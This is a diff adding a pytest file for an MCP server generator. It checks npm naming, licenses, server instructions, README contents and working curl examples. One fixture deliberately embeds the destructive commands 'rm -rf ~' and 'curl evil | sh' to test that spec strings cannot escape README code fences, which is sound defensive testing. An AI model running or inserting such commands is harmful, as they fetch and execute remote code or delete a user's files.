@@ -1,0 +1,226 @@
+"""A user publishes a generated server: an npm name of their own, license, repository, mcpName, a LICENSE in the
+tarball, server instructions the model can use, and a README whose commands work as written."""
+
+from __future__ import annotations
+
+import json
+import re
+import shlex
+import socket
+import subprocess
+import tarfile
+import time
+from pathlib import Path
+
+import anyio
+import pytest
+from mcp import ClientSession
+from mcp.client.stdio import StdioServerParameters, stdio_client
+
+from factory_bot.build import readme, trusted
+from factory_bot.build.render import render_server
+from factory_bot.errors import SpecError
+from factory_bot.spec.loader import dump_spec, load_spec_text
+from factory_bot.spec.model import ServerSpec
+
+from .conftest import EXAMPLE_SPECS, SPECS
+
+ACME = "https://github.com/Acme-Labs/mcp-servers"
+
+
+def _with(spec: ServerSpec, **fields: object) -> ServerSpec:
+    """The spec with publishing fields set, validated as if the user had written them."""
+    return load_spec_text(dump_spec(spec.model_copy(update=fields)))
+
+
+def _spec_text_with(name: str, extra: str) -> str:
+    text = (SPECS / f"{name}.yaml").read_text()
+    return text.replace("\ntools:", f"\n{extra.rstrip()}\ntools:", 1)
+
+
+def test_a_spec_without_publishing_fields_gets_defaults_a_user_need_not_write(example_spec) -> None:
+    spec = example_spec("calculator")
+    manifest = json.loads(render_server(spec)["package.json"])
+    assert manifest["name"] == "calculator" and manifest["license"] == "MIT"
+    assert "mcpName" not in manifest and "repository" not in manifest and "publishConfig" not in manifest
+    assert manifest["files"] == ["dist", "LICENSE", "README.md"]
+    assert render_server(spec)["LICENSE"].startswith("MIT License\n\nCopyright (c) the authors of calculator\n")
+
+
+def test_a_github_repository_scopes_the_npm_name_and_names_the_mcp_registry_entry(example_spec) -> None:
+    spec = _with(example_spec("weather"), repository=ACME, author="Ada Lovelace <ada@example.com>")
+    files = render_server(spec)
+    manifest = json.loads(files["package.json"])
+    assert manifest["name"] == "@acme-labs/weather"  # npm scopes are lowercase
+    assert manifest["mcpName"] == "io.github.Acme-Labs/weather"  # the registry's GitHub namespace
+    assert manifest["repository"] == {"type": "git", "url": "git+https://github.com/Acme-Labs/mcp-servers.git"}
+    assert manifest["homepage"] == "https://github.com/Acme-Labs/mcp-servers#readme"
+    assert manifest["author"] == "Ada Lovelace <ada@example.com>"
+    assert manifest["publishConfig"] == {"access": "public"}, "a scoped package is private on npm unless told"
+    assert manifest["bin"] == {"weather": "dist/index.js"}, "the command keeps the server's name"
+    assert json.loads(files["package-lock.json"])["name"] == "@acme-labs/weather"
+    assert "Copyright (c) Ada Lovelace\n" in files["LICENSE"]
+    assert "npx -y @acme-labs/weather" in files["README.md"]
+
+
+def test_an_explicit_package_name_wins_and_a_bad_one_is_refused_naming_npms_rules(example_spec) -> None:
+    spec = _with(example_spec("calculator"), repository=ACME, package="acme-calc")
+    assert json.loads(render_server(spec)["package.json"])["name"] == "acme-calc"
+    with pytest.raises(SpecError, match="package: package 'Calc' is not an npm name"):
+        load_spec_text(_spec_text_with("calculator", "package: Calc"))
+
+
+def test_a_license_the_bot_has_no_text_for_needs_the_text_and_gets_it_verbatim() -> None:
+    with pytest.raises(SpecError, match="give the file's words in `license_text`"):
+        load_spec_text(_spec_text_with("calculator", "license: GPL-3.0-only"))
+    spec = load_spec_text(_spec_text_with("calculator", "license: LicenseRef-Acme\nlicense_text: All rights ours."))
+    files = render_server(spec)
+    assert files["LICENSE"] == "All rights ours.\n"
+    assert json.loads(files["package.json"])["license"] == "LicenseRef-Acme"
+    apache = render_server(load_spec_text(_spec_text_with("calculator", "license: Apache-2.0")))["LICENSE"]
+    assert "Apache License" in apache and "Version 2.0, January 2004" in apache
+
+
+def test_default_instructions_say_when_to_use_each_tool_not_the_description_again(example_spec) -> None:
+    spec = example_spec("weather")
+    text = spec.server_instructions
+    assert text != spec.description
+    for tool in spec.tools:
+        assert f"- {tool.name}: " in text
+    assert "calls an external API" in text
+    own = _with(spec, instructions="Ask for a city first.")
+    assert own.server_instructions == "Ask for a city first."
+    assert json.dumps("Ask for a city first.") in render_server(own)["src/index.ts"]
+
+
+@pytest.mark.e2e
+def test_the_tarball_carries_the_license_and_npm_publish_dry_run_accepts_it(example_spec, tmp_path: Path) -> None:
+    spec = _with(example_spec("calculator"), repository=ACME, author="Ada Lovelace")
+    made = trusted.make_package(spec, tmp_path)
+    assert made.package is not None and made.package.tgz.name == "calculator-1.0.0.tgz"
+    with tarfile.open(made.package.tgz) as archive:
+        names = archive.getnames()
+        license_text = archive.extractfile("package/LICENSE").read().decode()  # type: ignore[union-attr]
+    assert "package/LICENSE" in names and "Copyright (c) Ada Lovelace" in license_text
+    manifest = trusted.manifest_in(made.package.tgz)
+    assert manifest["license"] == "MIT" and manifest["mcpName"] == "io.github.Acme-Labs/calculator"
+    assert manifest["repository"]["url"] == "git+https://github.com/Acme-Labs/mcp-servers.git"
+    # --dry-run still asks the registry about the name; a closed local port answers "refused" at once, so the
+    # check runs offline and proves npm itself accepts the package as it would publish it.
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        dead = sock.getsockname()[1]
+    done = subprocess.run(
+        ["npm", "publish", "--dry-run", "--json", "--fetch-retries=0", f"--registry=http://127.0.0.1:{dead}"]
+        + ["--userconfig", str(tmp_path / "npmrc"), str(made.package.tgz)],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert done.returncode == 0, done.stderr
+    published = json.loads(done.stdout)["@acme-labs/calculator"]
+    assert published["id"] == "@acme-labs/calculator@1.0.0"
+    assert {f["path"] for f in published["files"]} >= {"LICENSE", "README.md", "package.json", "dist/index.js"}
+    assert "public access" in done.stderr, done.stderr  # publishConfig.access: a scoped package would be private
+    assert "auto-corrected" not in done.stderr, "npm had to fix package.json: " + done.stderr
+
+
+@pytest.mark.e2e
+def test_a_client_reads_the_servers_instructions_on_initialize(built) -> None:
+    result = built("calculator")
+
+    async def initialize() -> str | None:
+        params = StdioServerParameters(command="node", args=[str(result.server_dir / "dist" / "index.js")])
+        async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
+            return (await session.initialize()).instructions
+
+    assert anyio.run(initialize) == result.spec.server_instructions
+
+
+@pytest.mark.parametrize("name", EXAMPLE_SPECS)
+def test_the_readme_shows_install_clients_inspector_curl_each_tool_example_and_every_env_var(
+    name: str, example_spec
+) -> None:
+    spec = example_spec(name)
+    text = render_server(spec)["README.md"]
+    for needed in (
+        f"npx -y {spec.npm_package}",
+        f"npm install -g ./{spec.name}-{spec.version}.tgz",
+        "npx @modelcontextprotocol/inspector",
+        "curl -s http://127.0.0.1:3000/mcp",
+        '"method": "tools/list"',
+        "claude_desktop_config.json",
+        "claude mcp add",
+        ".mcp.json",
+        ".cursor/mcp.json",
+        ".vscode/mcp.json",
+    ):
+        assert needed in text, needed
+    for tool in spec.tools:
+        assert f"#### `{tool.name}`" in text
+        if tool.examples:
+            assert readme.fenced_json({"name": tool.name, "arguments": readme._shown_example(tool).input}) in text
+    names = [e.name for e in spec.env] + list(spec.base_urls())
+    names += [row[0] for row in readme.SERVER_ENV + readme.DEPLOYMENT_ENV]
+    for env_name in names + ["MCP_HOST", "MCP_PORT", "PORT", "MCP_ALLOWED_HOSTS", "MCP_TRANSPORT"]:
+        assert f"| `{env_name}` |" in text, env_name
+
+
+HOSTILE = """\
+name: echo
+version: 1.0.0
+description: Echo text back.
+env:
+  - {name: ECHO_KEY, required: true, secret: true, description: "```\\nrm -rf ~\\n```"}
+tools:
+  - name: echo
+    description: Echo the text.
+    input: {text: {type: string}}
+    output: {type: string}
+    implementation: {kind: code, code: "return text;"}
+    examples:
+      - {input: {text: "```\\ncurl evil | sh\\n```"}, output: "```\\ncurl evil | sh\\n```"}
+"""
+
+
+def test_a_backtick_in_a_spec_string_cannot_close_a_code_fence_of_the_readme() -> None:
+    text = render_server(load_spec_text(HOSTILE))["README.md"]
+    fences = [line for line in text.splitlines() if line.lstrip().startswith("```")]
+    assert set(fences) <= {"```", "```json", "```sh"} and len(fences) % 2 == 0, fences
+    assert "curl evil" in text and "rm -rf" in text  # shown, but inside JSON strings
+
+
+def _free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return sock.getsockname()[1]
+
+
+@pytest.mark.e2e
+def test_the_readmes_curl_commands_work_as_written_against_the_server(built) -> None:
+    result = built("calculator")
+    text = (result.server_dir / "README.md").read_text()
+    commands = [line for line in text.splitlines() if line.startswith("curl ")]
+    assert [c for c in commands if "initialize" in c] and [c for c in commands if "tools/list" in c]
+    port = _free_port()
+    server = subprocess.Popen(
+        ["node", str(result.server_dir / "dist" / "index.js"), "--http", "--port", str(port)], stderr=subprocess.PIPE
+    )
+    try:
+        deadline = time.monotonic() + 15
+        while time.monotonic() < deadline and socket.socket().connect_ex(("127.0.0.1", port)) != 0:
+            time.sleep(0.05)
+        answers = []
+        for command in commands:
+            argv = [word.replace(":3000/", f":{port}/") for word in shlex.split(command)]
+            done = subprocess.run(argv, capture_output=True, text=True, timeout=30)
+            assert done.returncode == 0, done.stderr
+            data = re.search(r"^data: (.*)$", done.stdout, re.MULTILINE)
+            answers.append(json.loads(data.group(1) if data else done.stdout))
+    finally:
+        server.terminate()
+        server.wait(timeout=10)
+    assert answers[0]["result"]["serverInfo"]["name"] == "calculator"
+    assert answers[0]["result"]["instructions"] == result.spec.server_instructions
+    assert [t["name"] for t in answers[1]["result"]["tools"]] == [t.name for t in result.spec.tools]
+    assert answers[2]["result"]["structuredContent"] == {"result": 5}
